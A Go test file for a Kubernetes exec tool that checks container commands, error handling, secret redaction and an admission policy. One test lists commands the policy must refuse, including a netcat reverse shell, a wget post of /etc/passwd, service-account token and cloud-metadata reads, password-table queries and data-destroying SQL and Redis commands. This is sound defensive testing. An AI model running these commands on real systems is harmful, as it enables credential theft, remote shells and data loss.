package k8sops_test

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/client-go/tools/remotecommand"

	"github.com/svcdown/svcdown/k8sops"
	"github.com/svcdown/svcdown/redact"
)

func inBackend(argv ...string) k8sops.ExecRequest {
	return k8sops.ExecRequest{Kind: "deployments", Name: "backend-deployment", Argv: argv}
}

func TestProgramsRunInsideContainers(t *testing.T) {
	t.Parallel()
	b := looking(t)
	tests := []struct {
		name string
		req  k8sops.ExecRequest
		code int
		says string
	}{
		{"a disk, in a ready pod of the Deployment", inBackend("df", "-P", "-k", "/"), 0, "overlay"},
		{"a pod by name", k8sops.ExecRequest{Kind: "pods", Name: "redis-master-0", Argv: []string{"redis-cli", "PING"}}, 0, "PONG"},
		{"a pod behind a Service", k8sops.ExecRequest{Kind: "services", Name: "postgres-primary-service", Argv: []string{"pg_isready", "-U", "postgres"}}, 0, "accepting connections"},
		{"a question to Postgres", k8sops.ExecRequest{Kind: "statefulsets", Name: "postgres-primary", Argv: k8sops.PsqlArgv("", "", "postgres", "web3marketplace", "SELECT 1 AS one, 2 AS two;")}, 0, "one\ttwo\n1\t2"},
		{"a file about the machine", inBackend("cat", "/etc/resolv.conf"), 0, "nameserver"},
		{"a code of the program's own", inBackend("ls", "-l", "/no/such/place"), 2, ""},
	}
	for _, tt := range tests {
		got, err := b.cluster.Exec(t.Context(), b.backend, tt.req)
		if err != nil || got.ExitCode != tt.code || !strings.Contains(got.Stdout.String(), tt.says) || got.Pod == "" || got.Container == "" || got.Truncated {
			t.Errorf("%s: %v, code %d, pod %q, stdout %q, stderr %q", tt.name, err, got.ExitCode, got.Pod, got.Stdout, got.Stderr)
		}
	}
}

func TestWhatExecCannotAnswerIsNoFailure(t *testing.T) {
	t.Parallel()
	b := looking(t)
	cfg, err := clientcmd.BuildConfigFromFlags("", b.world.UserKubeconfigs["alice"]) // may view
	if err != nil {
		t.Fatal(err)
	}
	viewer := open(t, cfg, k8sops.Options{})
	other := b.backend
	other.Namespace = "kube-system"
	tests := []struct {
		name    string
		cluster *k8sops.Cluster
		req     k8sops.ExecRequest
		kind    k8sops.Kind
		says    string
	}{
		{"an image without the program", b.cluster, k8sops.ExecRequest{Kind: "statefulsets", Name: "postgres-primary", Argv: []string{"redis-cli", "PING"}}, k8sops.NoProgram, "has no redis-cli"},
		{"an account that may not", viewer, inBackend("df", "-P"), k8sops.Forbidden, "forbid"},
		{"a pod that is not there", b.cluster, k8sops.ExecRequest{Kind: "pods", Name: "nobody", Argv: []string{"df"}}, k8sops.NotFound, ""},
		{"a container that is not there", b.cluster, k8sops.ExecRequest{Kind: "pods", Name: "redis-master-0", Container: "sidecar", Argv: []string{"df"}}, k8sops.NotFound, "redis-master"},
		{"a kind without pods", b.cluster, k8sops.ExecRequest{Kind: "jobs", Name: "x", Argv: []string{"df"}}, k8sops.Unsupported, ""},
	}
	for _, tt := range tests {
		got, err := tt.cluster.Exec(t.Context(), b.backend, tt.req)
		if k8sops.KindOf(err) != tt.kind || !strings.Contains(err.Error(), tt.says) || !got.Stdout.Empty() {
			t.Errorf("%s: %v (%s), want %s", tt.name, err, k8sops.KindOf(err), tt.kind)
		}
	}
	if _, err := b.cluster.Exec(t.Context(), other, inBackend("df")); k8sops.KindOf(err) != k8sops.Forbidden && k8sops.KindOf(err) != k8sops.NotFound {
		t.Errorf("a namespace of somebody else: %v", err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := b.cluster.Exec(ctx, b.backend, inBackend("df")); k8sops.KindOf(err) != k8sops.Timeout {
		t.Errorf("a caller that left: %v", err)
	}
}

func TestAContainerThatDoesNotRunIsNotAsked(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.world.Break(t, "redis-master", "oom")
	// A kubelet may know of an end before the API server does: then nobody can say why yet.
	eventually(t, "the container is said not to run, and why", func() bool {
		_, err := b.cluster.Exec(t.Context(), b.backend, k8sops.ExecRequest{Kind: "statefulsets", Name: "redis-master", Argv: []string{"redis-cli", "PING"}})
		return k8sops.KindOf(err) == k8sops.NotRunning && (strings.Contains(err.Error(), "CrashLoopBackOff") || strings.Contains(err.Error(), "Restarting"))
	})
}

func TestTheOutputOfAProgramIsBounded(t *testing.T) {
	t.Parallel()
	b := looking(t)
	r := inBackend("ls", "-l", "/app")
	r.MaxBytes = 40
	got, err := b.cluster.Exec(t.Context(), b.backend, r)
	if err != nil || !got.Truncated || got.ExitCode != -1 || len(got.Stdout.String()) != 40 {
		t.Errorf("%v, truncated %t, code %d, %d bytes: %q", err, got.Truncated, got.ExitCode, len(got.Stdout.String()), got.Stdout)
	}
}

func TestTheTimeOfAProgramIsBounded(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.world.Run(t, "break", "postgres-primary", "disk-full", "--seed", "3", "--namespace", b.world.Namespace) // it lives and is slow
	r := inBackend("curl", "-q", "-s", "--proto", "=http,https", "http://backend-service:3000/health")
	r.Timeout = time.Second // the answer takes three
	var err error
	eventually(t, "the program is given up", func() bool {
		_, err = b.cluster.Exec(t.Context(), b.backend, r)
		return k8sops.KindOf(err) == k8sops.Timeout
	})
	if !strings.Contains(err.Error(), "may go on inside the container") {
		t.Error(err)
	}
}

func TestNoSecretLeavesThroughExec(t *testing.T) {
	t.Parallel()
	b := looking(t)
	redis := k8sops.ExecRequest{Kind: "statefulsets", Name: "redis-master", Argv: []string{"redis-cli", "CONFIG", "GET", "*"}}
	activity := k8sops.ExecRequest{Kind: "statefulsets", Name: "postgres-primary", Argv: k8sops.PsqlArgv("", "", "postgres", "", "SELECT * FROM pg_stat_activity")}
	tests := []struct {
		name string
		req  k8sops.ExecRequest
		want []string // of the output
		not  []string
	}{
		{"the environment has names only", inBackend("env", "-0"), []string{"DATABASE_URL", "JWT_SECRET", "LOG_LEVEL"}, []string{"=", "canary", "5432"}},
		{"a connection string tells where it leads", inBackend("node", "-e", "console.log(process.env.DATABASE_URL)"), []string{"postgres://postgres@postgres-primary-service:5432/web3marketplace"}, []string{"canary"}},
		{"a secret is set", inBackend("printenv", "JWT_SECRET"), []string{"set"}, []string{"canary"}},
		{"a harmless value is only set as well", inBackend("printenv", "LOG_LEVEL"), []string{"set"}, []string{"info"}},
		{"a variable that is not there", inBackend("node", "-e", "console.log(process.env.NOPE)"), []string{"not set"}, nil},
		{"settings of Redis", redis, []string{"maxmemory\n419430400", "masterauth\n" + redact.Mark}, []string{"canary"}},
		{"queries of others", activity, []string{"client backend", "[not shown]"}, []string{"FROM listings", "collection_id", "buyer"}},
	}
	for _, tt := range tests {
		got, err := b.cluster.Exec(t.Context(), b.backend, tt.req)
		if err != nil {
			t.Errorf("%s: %v", tt.name, err)
			continue
		}
		for _, want := range tt.want {
			if !strings.Contains(got.Stdout.String(), want) {
				t.Errorf("%s: %q is not in %q", tt.name, want, got.Stdout)
			}
		}
		for _, not := range tt.not {
			if strings.Contains(got.Stdout.String()+got.Stderr.String(), not) {
				t.Errorf("%s: %q is in %q", tt.name, not, got.Stdout)
			}
		}
	}
}

// Were our own list gone, the API server itself must refuse: the policy of the chart, in the sandbox's API server.
func TestTheAPIServerRefusesWhatTheListWould(t *testing.T) {
	t.Parallel()
	b := looking(t)
	cfg := botConfig(t, b.world)
	client, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	try := func(o corev1.PodExecOptions) error {
		o.Stdout, o.Stderr = true, true
		url := client.CoreV1().RESTClient().Post().Namespace(b.world.Namespace).Resource("pods").Name("redis-master-0").SubResource("exec").VersionedParams(&o, scheme.ParameterCodec).URL()
		for _, method := range []string{"GET", "POST"} { // WebSocket, SPDY
			x, err := remotecommand.NewWebSocketExecutor(cfg, method, url.String())
			if method == "POST" {
				x, err = remotecommand.NewSPDYExecutor(cfg, method, url)
			}
			if err != nil {
				return err
			}
			var out, problem strings.Builder
			if err := x.StreamWithContext(t.Context(), remotecommand.StreamOptions{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &problem}); err == nil || !strings.Contains(err.Error(), "denied request") {
				return err
			}
		}
		return errDenied
	}
	refused := map[string]corev1.PodExecOptions{
		"a shell":                                {Command: []string{"sh", "-c", "id"}},
		"a shell behind env":                     {Command: []string{"env", "sh"}},
		"an environment":                         {Command: []string{"env"}},
		"input":                                  {Command: []string{"df"}, Stdin: true},
		"a terminal":                             {Command: []string{"df"}, TTY: true, Stdin: true},
		"another program":                        {Command: []string{"redis-server"}},
		"psql outside":                           {Command: []string{"psql", "-c", "DROP TABLE x"}},
		"psql with a fifth -c":                   {Command: append(k8sops.PsqlArgv("", "", "postgres", "", "SELECT 1"), "-c", "DROP TABLE x", "ROLLBACK")},
		"psql with a file":                       {Command: append(k8sops.PsqlArgv("", "", "postgres", "", "SELECT 1"), "-f", "/x", "ROLLBACK")},
		"node runs":                              {Command: []string{"node", "-e", "process.exit()"}},
		"cat shows a token":                      {Command: []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}},
		"cat shows a process":                    {Command: []string{"cat", "/proc/1/environ"}},
		"curl posts":                             {Command: []string{"curl", "-q", "-d", "x", "http://a/"}},
		"curl deletes":                           {Command: []string{"curl", "-q", "-X", "DELETE", "http://a/"}},
		"curl reads a config":                    {Command: []string{"curl", "http://a/"}},
		"curl writes":                            {Command: []string{"curl", "-q", "-o", "/tmp/x", "http://a/"}},
		"wget writes":                            {Command: []string{"wget", "--no-config", "--max-redirect=0", "http://a/"}},
		"psql runs a program":                    {Command: k8sops.PsqlArgv("", "", "postgres", "", `\! id`)},
		"psql copies to a program":               {Command: k8sops.PsqlArgv("", "", "postgres", "", "COPY (SELECT 1) TO PROGRAM 'id'")},
		"psql commits and drops":                 {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT 1; COMMIT; DROP TABLE x")},
		"psql hides it in dollars":               {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT $$'$$; COMMIT; DROP TABLE x; SELECT $$'$$")},
		"psql ends a session":                    {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity")},
		"psql ends it in quotes":                 {Command: k8sops.PsqlArgv("", "", "postgres", "", `SELECT "pg_terminate_backend"(1)`)},
		"psql reads a file":                      {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT PG_READ_FILE('/etc/passwd')")},
		"psql reads a replica's password":        {Command: k8sops.PsqlArgv("", "", "postgres", "", "SHOW primary_conninfo")},
		"psql reads it by a function":            {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT current_setting('primary_conninfo')")},
		"psql reads a subscription's password":   {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT subconninfo FROM pg_subscription")},
		"psql forgets the statistics":            {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT pg_stat_statements_reset()")},
		"psql reads the passwords":               {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT rolpassword FROM pg_catalog.pg_authid")},
		"psql asks another server":               {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT * FROM dblink('host=169.254.169.254', 'x') AS t(a text)")},
		"psql waits":                             {Command: k8sops.PsqlArgv("", "", "postgres", "", "SELECT pg_sleep(60)")},
		"pg_isready with a string to connect by": {Command: []string{"pg_isready", "-t", "5", "-d", "host=169.254.169.254"}},
		"pg_isready with an address":             {Command: []string{"pg_isready", "-d", "postgres://x@169.254.169.254/"}},
		"pg_isready with a file":                 {Command: []string{"pg_isready", "-h", "/etc"}},
		"redis changes":                          {Command: []string{"redis-cli", "FLUSHALL"}},
		"redis runs a script":                    {Command: []string{"redis-cli", "EVAL", "return 1", "0"}},
		"redis changes behind an option":         {Command: []string{"redis-cli", "-n", "0", "SET", "PING", "1"}},
		"nc runs a program":                      {Command: []string{"nc", "-e", "/bin/sh", "db", "80"}},
		"nc listens":                             {Command: []string{"nc", "-z", "-l", "80"}},
		"dig reads a file":                       {Command: []string{"dig", "-f", "/etc/passwd"}},
		"curl reads a file as a URL":             {Command: []string{"curl", "-q", "file:///proc/self/environ"}},
		"curl writes a second file":              {Command: []string{"curl", "-q", "--proto", "=http,https", "-o", "/tmp/x", "-A", "/dev/null", "http://a/"}},
		"curl writes by its format":              {Command: []string{"curl", "-q", "--proto", "=http,https", "-w", "%output{/tmp/x}", "http://a/"}},
		"curl deletes beside a GET":              {Command: []string{"curl", "-q", "--proto", "=http,https", "-X", "DELETE", "-A", "GET", "http://a/"}},
		"wget runs a program":                    {Command: []string{"wget", "--no-config", "--max-redirect=0", "--use-askpass=/bin/sh", "-O", "-", "http://a/"}},
		"wget writes a second file":              {Command: []string{"wget", "--no-config", "--max-redirect=0", "--spider", "-O", "/tmp/x", "http://a/"}},
		"wget posts a file":                      {Command: []string{"wget", "--no-config", "--max-redirect=0", "--post-file=/etc/passwd", "-O", "-", "http://a/"}},
		"a sign between arguments":               {Command: []string{"redis-cli", "PING\x01x"}},
		"wget follows a redirect":                {Command: []string{"wget", "--no-config", "-O", "-", "http://a/"}},
	}
	for name, o := range refused {
		if err := try(o); !errors.Is(err, errDenied) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// What svcdown itself asks passes the policy: it is bounded, not switched off.
func TestTheAPIServerLetsOurOwnQuestionsPass(t *testing.T) {
	t.Parallel()
	b := looking(t)
	for name, argv := range map[string][]string{
		"psql":                k8sops.PsqlArgv("db", "5432", "app", "shop", "SELECT datname, pg_size_pretty(pg_database_size(datname))\nFROM pg_database WHERE datname <> ';' ORDER BY 2 - 1;"),
		"psql asks how it is": k8sops.PsqlArgv("", "", "postgres", "", "SELECT slot_name, pg_size_pretty(pg_wal_lsn_diff(pg_current_wal_lsn(), restart_lsn)) FROM pg_replication_slots, pg_stat_replication_slots, pg_stat_progress_create_index WHERE pg_is_wal_replay_paused()"),
		"psql lists":          k8sops.PsqlArgv("", "", "postgres", "", `\l`),
		"pg_isready":          {"pg_isready", "-t", "5", "-h", "127.0.0.1", "-p", "5432", "-U", "postgres", "-d", "shop"},
		"redis":               {"redis-cli", "-t", "5", "-h", "127.0.0.1", "-p", "6379", "config", "get", "*"},
		"curl":                {"curl", "-q", "-s", "-S", "-v", "--proto", "=http,https", "--max-time", "8", "-X", "GET", "-k", "-o", "/dev/null", "-w", `\n%{http_code}\n`, "http://127.0.0.1/a?b=c"},
		"wget":                {"wget", "--no-config", "--max-redirect=0", "-T", "5", "-t", "1", "-S", "-O", "-", "http://127.0.0.1/"},
		"nc":                  {"nc", "-z", "-v", "-w", "5", "127.0.0.1", "6379"},
		"dig":                 {"dig", "+time=2", "+tries=1", "@127.0.0.1", "db"},
	} {
		_, err := b.cluster.Exec(t.Context(), b.backend, k8sops.ExecRequest{Kind: "pods", Name: "redis-master-0", Argv: argv})
		if kind := k8sops.KindOf(err); kind == k8sops.Forbidden || kind == k8sops.Invalid {
			t.Errorf("%s: %v", name, err)
		}
	}
}

var errDenied = errors.New("denied both ways")

func TestWhereAServiceLeads(t *testing.T) {
	t.Parallel()
	b := looking(t)
	b.world.Kubectl(t, "create", "service", "externalname", "away", "--external-name=metadata.google.internal")
	for service, want := range map[string]string{"away": "metadata.google.internal", "backend-service": "", "not-there": ""} {
		got, err := b.cluster.ExternalName(t.Context(), b.world.Namespace, service)
		if err != nil || got != want {
			t.Errorf("%s leads to %q, %v; want %q", service, got, err, want)
		}
	}
}
